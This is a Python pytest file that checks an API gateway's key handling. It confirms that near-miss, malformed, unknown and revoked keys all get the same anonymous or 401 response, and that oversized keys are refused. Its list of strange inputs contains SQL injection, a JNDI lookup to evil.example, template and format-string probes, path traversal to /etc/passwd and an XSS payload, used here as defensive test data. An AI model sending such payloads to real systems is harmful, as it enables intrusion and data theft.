"""Section 5: whatever is sent as a key is anonymous or 401, and nothing tells the unknown apart."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from gateway.state.keys import checksum, new_key
from tests.contract.asking import Asker, knock
from tests.contract.conftest import Begin
from tests.contract.test_keys import GENERATE, SQLITE, UNKNOWN, Keys
from tests.web.raw_http import Answer

FREE = {"anonymous": {"requests": "100000/hour", "concurrent": 100}}
HEADERS = ["Authorization: Bearer ", "authorization: bearer ", "x-api-key: ", "api-key: "]


def nearly(key: str) -> Iterator[str]:
    """Yield texts that are almost a key."""
    yield from (key[:end] for end in (1, 3, 9, 10, 46, 51))
    yield from (key[1:], key + "x", key * 2, key.lower(), key.upper(), key.swapcase())
    yield from (f"dg-{'A' * 49}", f"dg_{key[3:]}", f"{key[:-1]}~", f"sk-{key[3:]}")
    middle = "A" if key[20] != "A" else "B"
    yield key[:20] + middle + key[21:]
    yield key.replace(key[3:6], "\u0661\u0662\u0663", 1)
    yield f"dg-{chr(0x212A) * 43}{checksum('K' * 43)}"


STRANGE = [
    "' OR '1'='1",
    "'; DROP TABLE keys; --",
    'x" UNION SELECT * FROM keys --',
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__.__init__.__globals__}",
    "%s%s%s%n",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "dg-",
    "null",
    "Bearer",
    "\u00fc" * 40,
    "\U0001f511" * 20,
    "x" * 8000,
]


@pytest.fixture
async def key(begin: Begin, tmp_path: Path) -> str:
    """A key that the gateways after it know."""
    await begin(state={"url": SQLITE})  # Writes the configuration that the command line reads.
    return str((await Keys(tmp_path).made())["key"])


async def answered(caller: Asker, header: bytes) -> Answer:
    """Generate with one header of any bytes."""
    async with knock(caller.gateway) as wire:
        await wire.send(
            f"GET {GENERATE}".encode() + b" HTTP/1.1\r\nHost: localhost\r\n" + header + b"\r\n\r\n"
        )
        return await wire.answer()


@pytest.mark.parametrize("mode", ["open", "keys"])
async def test_what_is_no_key_is_anonymous_or_401_and_all_of_it_alike(
    begin: Begin, key: str, mode: str
) -> None:
    caller = await begin(state={"url": SQLITE}, auth={"mode": mode}, limits=FREE)
    texts = [text.encode() for text in (*nearly(key), *STRANGE)]
    texts += [bytes([byte]) * 20 for byte in (0x80, 0xC0, 0xF5, 0xFF, 0x21)]

    found = {
        (answer.status, answer.body)
        for number, text in enumerate(texts)
        for answer in [await answered(caller, HEADERS[number % len(HEADERS)].encode() + text)]
    }

    assert len(found) == 1
    ((status, body),) = found
    assert status == (200 if mode == "open" else 401)
    assert key[:12].encode() not in body


@pytest.mark.parametrize("mode", ["open", "keys"])
async def test_keys_that_are_unknown_or_have_ended_are_told_alike(
    begin: Begin, key: str, mode: str, tmp_path: Path
) -> None:
    keys = Keys(tmp_path)
    revoked = await keys.made()
    await keys("revoke", revoked["id"])
    caller = await begin(state={"url": SQLITE}, auth={"mode": mode}, limits=FREE)

    found = {
        (answer.status, answer.body)
        for text in (UNKNOWN, new_key(), new_key(), revoked["key"])
        for answer in [await answered(caller, f"Authorization: Bearer {text}".encode())]
    }

    assert [status for status, _ in found] == [401]
    assert (await answered(caller, f"Authorization: Bearer {key}".encode())).status == 200


async def test_a_megabyte_is_refused_wherever_it_stands(begin: Begin) -> None:
    caller = await begin(state={"url": SQLITE}, auth={"mode": "keys"}, limits=FREE)
    large = "dg-" + "x" * 1_000_000

    in_header = await answered(caller, f"Authorization: Bearer {large}".encode())
    in_body = await caller.post("/api/generate_response", {"user_input": "hi", "api_key": large})
    async with knock(caller.gateway) as wire:
        await wire.send(f"GET /text/hi?api_key={large} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        in_query = await wire.answer()

    assert (in_header.status, in_body.status, in_query.status) == (431, 401, 414)
